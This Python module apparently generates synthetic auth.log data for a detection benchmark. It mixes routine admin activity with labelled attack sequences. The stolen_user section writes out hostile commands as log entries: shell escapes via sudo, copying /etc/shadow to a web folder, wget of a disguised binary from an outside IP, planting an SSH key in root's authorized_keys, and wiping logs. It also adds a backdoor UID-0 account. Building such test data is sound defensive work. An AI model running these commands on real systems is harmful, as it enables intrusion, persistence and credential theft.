"""auth.log of four servers of a small company, in the manner of public testbeds of 2022.

Daily work: cron, administrators who log in and use sudo (also on /etc/shadow), backups, monitoring that knocks and leaves, mail logins,
mistyped names. Attacks: a web server's account changes to a user's and that one's sudo is abused, new accounts, guessed passwords from
inside, and logins that succeed. It is not training material: it was written by a hand that did not know the training scenarios, to see
what the model makes of a site that nobody tuned it for, and what is learned from can no longer tell that.
"""
from __future__ import annotations

from typing import Optional

from .site import Renumber, Site, epoch, syslog_time

START = epoch(2022, 1, 20)
DAYS = 6
MAIN_HOST = "intranet-server"
HOSTS = ["intranet-server", "internal-share", "mail-server", "monitoring"]
ADMINISTRATORS = {"ubuntu": 1000, "tjackson": 1003, "dbadmin": 1004}
COMMANDS = ["/usr/bin/apt update", "/usr/bin/apt -y upgrade", "/usr/bin/systemctl restart apache2", "/usr/bin/systemctl status mysql",
            "/usr/bin/tail -f /var/log/syslog", "/usr/bin/less /var/log/auth.log",
            "/usr/bin/vim /etc/apache2/sites-available/intranet.conf", "/usr/sbin/a2ensite intranet.conf",
            "/usr/bin/mysqldump --all-databases --result-file=/backup/all.sql", "/bin/su -", "/usr/bin/journalctl -u ssh -n 200",
            "/usr/sbin/ufw status", "/usr/bin/chown -R www-data:www-data /var/www/html/wp-content", "/usr/bin/docker ps",
            "/usr/bin/docker logs -f nextcloud", "/usr/bin/passwd jhall", "/usr/sbin/usermod -aG video munin",
            "/usr/bin/cat /etc/shadow", "/usr/bin/crontab -l -u www-data", "/usr/bin/netstat -tulpen",
            "/usr/bin/tcpdump -i ens3 port 53 -c 100", "/usr/bin/find /var/log -name *.gz -mtime +90 -delete",
            "/usr/bin/rsync -a /var/www/ backup@10.35.33.112:/srv/backup/www/", "/usr/bin/nano /etc/ssh/sshd_config", "/usr/bin/visudo",
            "/usr/bin/openssl req -new -key /etc/ssl/private/intranet.key", "/usr/sbin/logrotate -f /etc/logrotate.conf",
            "/usr/bin/puppet agent -t", "/sbin/reboot", "/usr/bin/unattended-upgrade --dry-run", "/usr/bin/bash"]
USERS = ["root", "admin", "ubuntu", "jhall", "kelsey.tucker", "darren.moss", "backup", "test", "oracle", "git"]


class LinuxAuth(Site):
    """auth.log of a few servers."""

    name = "linux_auth"
    host = "intranet-server"
    sourcetype = "linux_secure"
    seed = 505
    renumbered = (Renumber(pattern=r"(^\S+ +\d+ \S+ \S+ [^\s\[]+\[)(\d+)(\]:)", start=900, step=23, fixed=("592", "601"), wrap=32700,
                           per_host=True), Renumber(pattern=r"([Ss]ession )(\d+)( of user|\.| logged out)", start=1, step=2,
        per_host=True))

    def build(self) -> None:
        self.prepare()
        self.cron()
        self.administrators()
        self.backups_and_probes()
        self.mail_and_others()
        self.stolen_user()
        self.new_accounts()
        self.guessed_from_inside()

    def next_pid(self):
        self.pid += self.rng.randint(1, 37)
        if self.pid > 32700:
            self.pid = 900
        return self.pid

    def line(self, at: float, program: str, message: str, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
             host=MAIN_HOST, process=None) -> None:
        """One line of auth.log."""
        self.add(at, "{} {} {}: {}".format(syslog_time(at), host, program if process is None else f"{program}[{process}]", message),
                 label, group, technique, host)

    def cron_job(self, at: float, user: str, host: str, owner) -> None:
        process = self.next_pid()
        self.line(at, "CRON", f"pam_unix(cron:session): session opened for user {user} by (uid=0)", host=host, process=process)
        self.line(at + self.rng.random() * 3, "CRON", f"pam_unix(cron:session): session closed for user {user}", host=host,
                  process=process)

    def prepare(self) -> None:
        """Who and what is there."""
        self.pid = 1200

    def cron(self) -> None:
        """Cron, on every host."""
        for host in HOSTS:
            for _ in range(75):
                at = START + self.rng.randrange(DAYS * 24) * 3600 + self.rng.choice([17 * 60, 9 * 60, 39 * 60]) + 1
                self.cron_job(at, self.weighted([("root", 14), ("www-data", 2), ("smmsp" if host == "mail-server" else "munin", 2),
                    ("backup", 1)]), host, 0)

    def administrators(self) -> None:
        """Administrators log in, and use sudo."""
        session = 0
        for _ in range(46):
            at = self.moment(START, DAYS)
            host = self.choice(HOSTS)
            user = self.choice(list(ADMINISTRATORS))
            address = self.choice(["10.35.35.206", "10.35.35.214", "10.35.33.10", "192.168.231.254"])
            process = self.next_pid()
            port = self.rng.randint(32800, 60900)
            session += 1
            key = self.rng.random() < 0.6
            for _ in range(self.weighted([(0, 8), (1, 2), (2, 1)]) if not key else 0):
                if _ == 0:
                    self.line(at, "sshd",
                              f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={address}  user={user}",
                              host=host, process=process)
                at += 2
                self.line(at, "sshd", f"Failed password for {user} from {address} port {port} ssh2", host=host, process=process)
                at += 3
            self.line(at, "sshd", f"Accepted publickey for {user} from {address} port {port} ssh2: RSA SHA256:"
                      f"{self.choice(['4kM0dX8Tq9pAe1nNw3T0Cw0VYc7j1pU4cJm2vYgM3xE', 'kCd2yB9r5R8O4WcV6o1sTg7H0uQ3mPzXnFqL5aJbYeI'])}" if key
                      else f"Accepted password for {user} from {address} port {port} ssh2", host=host, process=process)
            self.line(at, "sshd", f"pam_unix(sshd:session): session opened for user {user} by (uid=0)", host=host, process=process)
            self.line(at, "systemd-logind", f"New session {session} of user {user}.", host=host, process=592)
            if self.rng.random() < 0.4:
                self.line(at, "systemd", f"pam_unix(systemd-user:session): session opened for user {user} by (uid=0)", host=host,
                          process=self.next_pid())
            for _ in range(self.rng.randint(0, 5)):
                at += self.rng.uniform(5, 300)
                command = self.choice(COMMANDS)
                pts = self.rng.randint(0, 2)
                if self.rng.random() < 0.06:
                    self.line(at, "sudo",
                              f"pam_unix(sudo:auth): authentication failure; logname={user} uid={ADMINISTRATORS[user]} euid=0 tty=/dev/pts/"
                              f"{pts} ruser={user} rhost=  user={user}", host=host)
                    at += 4
                self.line(at, "sudo",
                          f"{user:>8} : TTY=pts/{pts} ; PWD={self.choice(['/home/' + user, '/var/www/html', '/etc/apache2', '/var/log', '/tmp'])}"
                          f" ; USER=root ; COMMAND={command}", host=host)
                self.line(at, "sudo", f"pam_unix(sudo:session): session opened for user root by {self.choice([user, ''])}(uid=0)",
                          host=host)
                if command == "/bin/su -":
                    p2 = self.next_pid()
                    self.line(at, "su", f"(to root) {'root'} on pts/{pts}", host=host, process=p2)
                    self.line(at, "su", f"pam_unix(su-l:session): session opened for user root by {user}(uid=0)", host=host, process=p2)
                    self.line(at + 60, "su", "pam_unix(su-l:session): session closed for user root", host=host, process=p2)
                if command.startswith("/usr/bin/passwd"):
                    self.line(at + 20, "passwd", "pam_unix(passwd:chauthtok): password changed for jhall", host=host,
                              process=self.next_pid())
                if command.startswith("/usr/sbin/usermod"):
                    self.line(at + 0.2, "usermod", "add 'munin' to group 'video'", host=host, process=self.next_pid())
                    self.line(at + 0.2, "usermod", "add 'munin' to shadow group 'video'", host=host, process=self.next_pid())
                at += self.rng.uniform(0.3, 20)
                self.line(at, "sudo", "pam_unix(sudo:session): session closed for user root", host=host)
            at += self.rng.uniform(10, 900)
            self.line(at, "sshd", f"Received disconnect from {address} port {port}:11: disconnected by user", host=host,
                      process=process)
            self.line(at, "sshd", f"Disconnected from user {user} {address} port {port}", host=host, process=process)
            self.line(at, "sshd", f"pam_unix(sshd:session): session closed for user {user}", host=host, process=process)
            self.line(at + 0.3, "systemd-logind", f"Session {session} logged out. Waiting for processes to exit.", host=host,
                      process=592)
            self.line(at + 0.4, "systemd-logind", f"Removed session {session}.", host=host, process=592)

    def backups_and_probes(self) -> None:
        """Backups, and monitoring that knocks and leaves."""
        for d in range(DAYS):
            at = START + d * 86400 + 2 * 3600 + 5
            host = "internal-share"
            process = self.next_pid()
            port = self.rng.randint(33000, 60000)
            self.line(at, "sshd", f"Accepted publickey for backup from 10.35.33.112 port {port}"
                      " ssh2: ED25519 SHA256:Zk2o9h0rQm7u5vXq1sN8tJ4fYb6cGw3eLpDiA0xKzVU", host=host, process=process)
            self.line(at, "sshd", "pam_unix(sshd:session): session opened for user backup by (uid=0)", host=host, process=process)
            self.line(at + 200, "sshd", "pam_unix(sshd:session): session closed for user backup", host=host, process=process)
            for dice in range(6):
                at = START + d * 86400 + dice * 14400 + 33
                process = self.next_pid()
                self.line(at, "sshd", self.choice(["Connection closed by 172.19.131.174 port %d [preauth]",
                    "Did not receive identification string from 172.19.131.174 port %d",
                    "Connection reset by 172.19.131.174 port %d [preauth]"]) % self.rng.randint(33000, 60000), host=self.choice(HOSTS),
                          process=process)
            at = START + d * 86400 + 6 * 3600 + 25 * 60
            self.line(at, "su", "(to nobody) root on none", host="mail-server", process=(process := self.next_pid()))
            self.line(at, "su", "pam_unix(su:session): session opened for user nobody by (uid=0)", host="mail-server", process=process)
            self.line(at + 1, "su", "pam_unix(su:session): session closed for user nobody", host="mail-server", process=process)

    def mail_and_others(self) -> None:
        """Mail logins and what systems say of themselves."""
        for _ in range(120):
            at = self.moment(START, DAYS)
            dice = self.rng.randrange(7)
            if dice < 3:
                user = self.choice(["kelsey.tucker", "darren.moss", "jhall", "taylorcruz", "violet", "lkowalski"])
                ok = self.rng.random()
                if ok < 0.3:
                    self.line(at, "auth",
                              f"pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser={user} rhost="
                              f"{self.address('10.35.35')}  user={user}", host="mail-server", process=None)
                else:
                    self.line(at, "auth", "pam_unix(dovecot:auth): check pass; user unknown" if ok < 0.4
                              else f"pam_unix(dovecot:session): session opened for user {user} by (uid=0)", host="mail-server")
            elif dice == 3:
                self.line(at, "polkitd(authority=local)",
                          f"Registered Authentication Agent for unix-process:{self.next_pid()}:{self.rng.randint(10 ** 6, 10 ** 8)}"
                          f" (system bus name :1.{self.rng.randint(50, 900)}"
                          " [/usr/bin/pkttyagent --notify-fd 5 --fallback], object path /org/freedesktop/PolicyKit1/AuthenticationAgent, locale C.UTF-8)",
                          host=self.choice(HOSTS))
            elif dice == 4:
                self.line(at, "sshd",
                          f"Invalid user {self.choice(['jhal', 'ubunut', 'kelsey.tucker', 'root1', 'admin'])} from 10.35.35."
                          f"{self.rng.randint(201, 216)} port {self.rng.randint(33000, 60000)}", host=self.choice(HOSTS),
                          process=self.next_pid())
            elif dice == 5:
                self.line(at, "systemd-logind", self.choice(["Watching system buttons on /dev/input/event0 (Power Button)",
                    "New seat seat0.", "System is rebooting."]), host=self.choice(HOSTS), process=592)
            else:
                self.line(at, "dbus-daemon",
                          "[system] Failed to activate service 'org.bluez': timed out (service_start_timeout=25000ms)",
                          host=self.choice(HOSTS), process=601)

    def stolen_user(self) -> None:
        """The web server's account becomes a user, whose sudo is abused."""
        self.at = START + 4 * 86400 + 12 * 3600 + 431
        for user, ok in [("root", 0), ("root", 0), ("jhall", 0), ("jhall", 1)]:
            process = self.next_pid()
            self.at += self.rng.uniform(10, 40)
            if not ok:
                self.line(self.at, "su",
                          f"pam_unix(su:auth): authentication failure; logname= uid=33 euid=0 tty=pts/1 ruser=www-data rhost=  user={user}",
                          1, "www_su", "T1078.003", process=process)
                self.line(self.at + 2, "su", f"FAILED SU (to {user}) www-data on pts/1", 1, "www_su", "T1078.003", process=process)
            else:
                self.line(self.at, "su", f"(to {user}) www-data on pts/1", 1, "www_su", "T1078.003", process=process)
                self.line(self.at, "su", f"pam_unix(su:session): session opened for user {user} by (uid=33)", 1, "www_su", "T1078.003",
                          process=process)
                self.line(self.at + 0.1, "systemd-logind", "New session c1 of user jhall.", 1, "www_su", "T1078.003", process=592)
        self.line(self.at + 20, "sudo", "pam_unix(sudo:auth): Couldn't open /etc/securetty: No such file or directory", 1, "sudo_abuse",
                  "T1548.003")
        for command in ["list", "/bin/cat /etc/shadow", "/usr/bin/find . -exec /bin/sh ; -quit", "/bin/bash",
                        "/usr/bin/vim -c :!/bin/sh", "/usr/bin/cp /etc/shadow /var/www/html/wp-content/uploads/s.txt",
                        "/usr/bin/apt install -y screen", "/usr/bin/tee -a /etc/sudoers", "/usr/bin/chmod u+s /bin/dash",
                        "/usr/bin/wget http://192.42.96.12/kdevtmpfsi -O /usr/local/sbin/kworkerd",
                        "/usr/bin/systemctl enable --now kworkerd.service", "/usr/bin/iptables -F",
                        "/bin/sh -c echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB root@kali' >> /root/.ssh/authorized_keys",
                        "/usr/bin/sed -i /192.42.96.12/d /var/log/auth.log", "/usr/bin/journalctl --vacuum-time=1s", "/usr/bin/env"]:
            self.at += self.rng.uniform(8, 70)
            self.line(self.at, "sudo",
                      f"   jhall : TTY=pts/1 ; PWD={self.choice(['/var/www/html/wp-content/uploads/2022/01', '/home/jhall', '/tmp'])}"
                      f" ; USER=root ; COMMAND={command}", 1, "sudo_abuse", "T1548.003")
            if command != "list":
                self.line(self.at, "sudo", "pam_unix(sudo:session): session opened for user root by (uid=0)", 1, "sudo_abuse",
                          "T1548.003")
                self.line(self.at + 3, "sudo", "pam_unix(sudo:session): session closed for user root", 1, "sudo_abuse", "T1548.003")
        for user in [
                     "   jhall : command not allowed ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/docker run -v /:/mnt -it alpine chroot /mnt",
                     "www-data : user NOT in sudoers ; TTY=pts/1 ; PWD=/var/www/html ; USER=root ; COMMAND=list",
                     "   jhall : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/su"]:
            self.at += 5
            self.line(self.at, "sudo", user, 1, "sudo_abuse", "T1548.003")

    def new_accounts(self) -> None:
        """Accounts are made."""
        self.at += 600
        for program_name, text in [("groupadd", "group added to /etc/group: name=systemd-net, GID=1012"),
                                   ("groupadd", "group added to /etc/gshadow: name=systemd-net"),
                                   ("groupadd", "new group: name=systemd-net, GID=1012"),
                                   ("useradd",
                                    "new user: name=systemd-net, UID=1012, GID=1012, home=/home/systemd-net, shell=/bin/bash, from=/dev/pts/1"),
                                   ("passwd", "pam_unix(passwd:chauthtok): password changed for systemd-net"),
                                   ("usermod", "add 'systemd-net' to group 'sudo'"),
                                   ("usermod", "add 'systemd-net' to shadow group 'sudo'"),
                                   ("chage", "changed password expiry for systemd-net"),
                                   ("useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1"),
                                   ("useradd", "failed adding user 'toor', data deleted")]:
            self.at += self.rng.uniform(0.1, 4)
            self.line(self.at, program_name, text, 1, "new_user", "T1136.001", process=self.next_pid())

    def guessed_from_inside(self) -> None:
        """Passwords are guessed from a host inside, until one fits."""
        at = START + 4 * 86400 + 15 * 3600
        for _ in range(55):
            user = self.choice(USERS)
            process = self.next_pid()
            from_port = self.rng.randint(33000, 60900)
            at += self.rng.uniform(0.3, 3)
            invalid = user in ("admin", "test", "oracle", "git")
            if invalid:
                self.line(at, "sshd", f"Invalid user {user} from 10.35.33.111 port {from_port}", 1, "ssh_bruteforce", "T1110.001",
                          host="internal-share", process=process)
            if self.rng.random() < 0.4:
                self.line(at, "sshd",
                          "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.35.33.111"
                          f"{'' if invalid else '  user=' + user}", 1, "ssh_bruteforce", "T1110.001", host="internal-share",
                          process=process)
            self.line(at + 1.7, "sshd",
                      f"Failed password for {'invalid user ' if invalid else ''}{user} from 10.35.33.111 port {from_port} ssh2", 1,
                      "ssh_bruteforce", "T1110.001", host="internal-share", process=process)
            if self.rng.random() < 0.3:
                self.line(at + 2, "sshd",
                          f"Connection closed by {'invalid' if invalid else 'authenticating'} user {user} 10.35.33.111 port {from_port}"
                          " [preauth]", 1, "ssh_bruteforce", "T1110.001", host="internal-share", process=process)
            if self.rng.random() < 0.1:
                self.line(at + 2, "sshd",
                          f"error: maximum authentication attempts exceeded for {user} from 10.35.33.111 port {from_port} ssh2 [preauth]",
                          1, "ssh_bruteforce", "T1110.001", host="internal-share", process=process)
                self.line(at + 2, "sshd", f"Disconnecting authenticating user {user} 10.35.33.111 port {from_port}"
                          ": Too many authentication failures [preauth]", 1, "ssh_bruteforce", "T1110.001", host="internal-share",
                          process=process)
        at += 5
        process = self.next_pid()
        self.line(at, "sshd", "Accepted password for backup from 10.35.33.111 port 51522 ssh2", 1, "lateral_valid_account", "T1021.004",
                  host="internal-share", process=process)
        self.line(at, "sshd", "pam_unix(sshd:session): session opened for user backup by (uid=0)", 1, "lateral_valid_account",
                  "T1021.004", host="internal-share", process=process)
        for _ in range(5):
            at += self.rng.uniform(3000, 20000)
            process = self.next_pid()
            self.line(at, "sshd", f"Accepted publickey for root from 192.42.96.12 port {self.rng.randint(33000, 60000)}"
                      " ssh2: RSA SHA256:uNiReV3nOpQ8rStUvWxYz0123456789abcdEFGHijkl", 1, "lateral_valid_account", "T1021.004",
                      process=process)
            self.line(at, "sshd", "pam_unix(sshd:session): session opened for user root by (uid=0)", 1, "lateral_valid_account",
                      "T1021.004", process=process)
